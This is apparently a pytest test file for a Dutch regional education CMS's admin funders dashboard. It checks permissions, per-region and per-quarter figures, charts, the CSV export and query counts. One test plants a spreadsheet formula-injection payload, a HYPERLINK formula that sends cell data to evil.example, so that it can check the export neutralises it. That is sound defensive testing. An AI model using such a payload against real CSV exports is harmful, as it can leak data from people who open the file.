"""The admin dashboard: who may see it, filters, charts and the CSV export."""

import csv
import datetime as dt
import io

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import Group, Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from cms.bookings.models import Booking
from tests.bookings.factories import BookingFactory, LessonOfferingFactory, TimeSlotFactory
from tests.events.factories import EventRegistrationFactory
from tests.factories import EventPageFactory, RegionSite, SchoolFactory, TechniekhuisPageFactory

pytestmark = pytest.mark.django_db

URL = "/admin/funders-dashboard/"


@pytest.fixture
def admin_user(django_user_model):
    return django_user_model.objects.create_superuser("beheer", "beheer@regio.nl", "wachtwoord")


def staff(django_user_model, group: str | None):
    user = django_user_model.objects.create_user("medewerker", "m@regio.nl", "wachtwoord")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    if group:
        user.groups.add(Group.objects.get_or_create(name=group)[0])
    return user


def test_url_is_registered_in_the_admin():
    assert reverse("dashboard:index") == URL


def test_anonymous_is_sent_to_login_and_plain_editor_is_refused(client, django_user_model):
    assert client.get(URL)["Location"].startswith("/admin/login/")
    client.force_login(staff(django_user_model, "Communicatie"))
    refused = client.get(URL)
    # Wagtail's admin turns PermissionDenied into a redirect to the dashboard with a message.
    assert refused.status_code == 302
    assert refused["Location"] == "/admin/"


def test_project_leader_sees_tables_and_svg_charts(client, django_user_model, dataset):
    client.force_login(staff(django_user_model, "Projectleiders"))

    response = client.get(URL, {"granularity": "school_year"})

    assert response.status_code == 200
    html = response.content.decode()
    assert "<svg" in html and "<rect" in html
    assert "2025-2026" in html
    assert dataset.a.name in html


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_csv_export_has_the_same_figures(client, admin_user, dataset):
    client.force_login(admin_user)

    response = client.get(URL, {"granularity": "school_year", "region": dataset.a.pk, "format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    assert rows[0] == [
        "Regio",
        "Periode",
        "Bereikte leerlingen (boekingen)",
        "Bereikte klassen (boekingen)",
        "Bereikte scholen",
        "Aanmeldingen bijeenkomsten",
        "Challengeteams",
        "Leerlingen in challenges",
        "Downloads van leskisten",
        # the installed optional apps' figures (none in this dataset; see test_sources.py)
        "Uitgeleende leskisten",
        "Leerlingen bereikt met uitgeleende leskisten",
        "Gevolgde professionaliseringsactiviteiten",
        "Professionaliseringsuren",
        "Ingevulde evaluaties",
        "Gemiddeld evaluatiecijfer (1-5)",
        "Bijeenkomsten",
    ]
    body = {(r[0], r[1]): r[2:9] + r[-1:] for r in rows[1:]}
    # pupils, classes, schools, event registrations, challenge teams, challenge pupils, kit downloads, events
    assert body == {
        (dataset.a.name, "2025-2026"): ["75", "3", "2", "3", "2", "11", "4", "1"],
        (dataset.a.name, "2026-2027"): ["24", "1", "1", "0", "0", "0", "1", "0"],
        ("Totaal", ""): ["99", "4", "3", "3", "2", "11", "5", "1"],
    }
    assert {tuple(r[9:15]) for r in rows[1:]} == {("0", "0", "0", "0,0", "0", "—")}


def test_csv_export_has_kit_downloads_per_region_and_quarter(client, admin_user, dataset):
    client.force_login(admin_user)

    rows = read_csv(client.get(URL, {"granularity": "quarter", "format": "csv"}))

    column = rows[0].index("Downloads van leskisten")
    downloads = {(r[0], r[1]): r[column] for r in rows[1:]}
    a, b = dataset.a.name, dataset.b.name
    assert downloads == {
        (a, "2025-Q3"): "2",
        (a, "2025-Q4"): "1",
        (a, "2026-Q1"): "1",  # 31 March 23:30 local time
        (a, "2026-Q3"): "1",
        (b, "2026-Q1"): "3",
        ("Totaal", ""): "8",
    }
    assert not any("tot nu toe" in cell for row in rows for cell in row)


def page_table(html: str) -> tuple[list[str], dict[tuple[str, str], list[str]], list[str]]:
    """Header labels, body cells per (region, period) and the total row of the figures table."""
    table = BeautifulSoup(html, "html.parser").find("table", class_="listing")
    headers = [th.get_text(strip=True) for th in table.thead.find_all("th")]
    body = {}
    for tr in table.tbody.find_all("tr"):
        cells = [td.get_text(strip=True) for td in tr.find_all("td")]
        body[(cells[0], cells[1])] = cells[2:]
    totals = [td.get_text(strip=True) for td in table.tfoot.find_all("td")]
    return headers, body, totals


def test_page_shows_kit_downloads_per_region_and_quarter_with_a_chart(client, admin_user, dataset):
    client.force_login(admin_user)

    html = client.get(URL, {"granularity": "quarter"}).content.decode()

    headers, body, totals = page_table(html)
    column = headers.index("Downloads van leskisten") - 2
    a, b = dataset.a.name, dataset.b.name
    assert {key: cells[column] for key, cells in body.items()} == {
        (a, "2025-Q3"): "2",
        (a, "2025-Q4"): "1",
        (a, "2026-Q1"): "1",
        (a, "2026-Q3"): "1",
        (b, "2026-Q1"): "3",
    }
    assert totals[column] == "8"
    assert "tot nu toe" not in html
    chart = BeautifulSoup(html, "html.parser").find("svg", attrs={"aria-label": "Downloads van leskisten"})
    # regions summed per quarter
    assert [t.get_text() for t in chart.find_all("title")] == [
        "2025-Q3: 2",
        "2025-Q4: 1",
        "2026-Q1: 4",
        "2026-Q3: 1",
    ]


def test_page_shows_kit_downloads_per_school_year_for_one_school_year(client, admin_user, dataset):
    client.force_login(admin_user)

    html = client.get(URL, {"granularity": "school_year", "school_year": 2025}).content.decode()

    headers, body, totals = page_table(html)
    column = headers.index("Downloads van leskisten") - 2
    assert {key: cells[column] for key, cells in body.items()} == {
        (dataset.a.name, "2025-2026"): "4",  # 20 Sep (2x), 5 Nov, 31 March 23:30 local
        (dataset.b.name, "2025-2026"): "3",
    }
    assert totals[column] == "7"


def test_school_year_filter_offers_a_year_that_only_has_downloads(client, admin_user, region_site):
    from search.models import KitDownload
    from tests.factories import LessonKitPageFactory

    kit = LessonKitPageFactory(parent=region_site.databank, region=region_site.region)
    KitDownload.objects.create(
        page=kit, kind=KitDownload.Kind.ZIP, created_at=dt.datetime(2019, 10, 1, 12, tzinfo=dt.UTC)
    )
    client.force_login(admin_user)

    html = client.get(URL).content.decode()

    select = BeautifulSoup(html, "html.parser").find("select", attrs={"name": "school_year"})
    assert ("2019", "2019-2020") in [(o["value"], o.get_text()) for o in select.find_all("option")]


def test_page_explains_what_counts_in_dutch(client, admin_user, region_site):
    client.force_login(admin_user)

    html = client.get(URL).content.decode()

    section = BeautifulSoup(html, "html.parser").find("section", class_="dashboard-what-counts")
    text = section.get_text(" ", strip=True)
    assert "Wat telt mee" in text
    assert "gemarkeerd als gegeven" in text  # which bookings count as reached
    assert "begindatum van de bijeenkomst" in text  # events are dated by their start
    assert "dag van de download" in text


def test_bad_filter_values_are_ignored(client, admin_user, region_site):
    client.force_login(admin_user)

    assert client.get(URL, {"region": "x", "school_year": "abc", "granularity": "nope"}).status_code == 200


def test_csv_export_neutralises_formulas_in_region_names(client, admin_user, dataset):
    dataset.a.name = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    dataset.a.save()
    client.force_login(admin_user)

    rows = read_csv(client.get(URL, {"granularity": "school_year", "format": "csv"}))

    assert '\'=HYPERLINK("https://evil.example/?"&A1,"klik")' in [row[0] for row in rows]
    assert not [row for row in rows if row[0].startswith("=")]


def test_page_runs_the_same_few_queries_however_much_data_there_is(
    client, admin_user, dataset, django_assert_max_num_queries
):
    client.force_login(admin_user)
    client.get(URL)  # session and admin chrome warmed up
    with CaptureQueriesContext(connection) as small:
        client.get(URL)

    c = RegionSite(hostname="regio-c.example", is_default=False)
    offering = LessonOfferingFactory(techniekhuis=TechniekhuisPageFactory(parent=c.techniekhuizen))
    for month in range(1, 13):
        slot = TimeSlotFactory(offering=offering, date=dt.date(2024, month, 10), capacity_classes=10)
        for _ in range(3):
            BookingFactory(slot=slot, school=SchoolFactory(region=c.region), status=Booking.Status.COMPLETED)
        EventRegistrationFactory(event=EventPageFactory(parent=c.events))

    with django_assert_max_num_queries(len(small.captured_queries)):
        response = client.get(URL)
    assert response.status_code == 200
    assert len(small.captured_queries) <= 25
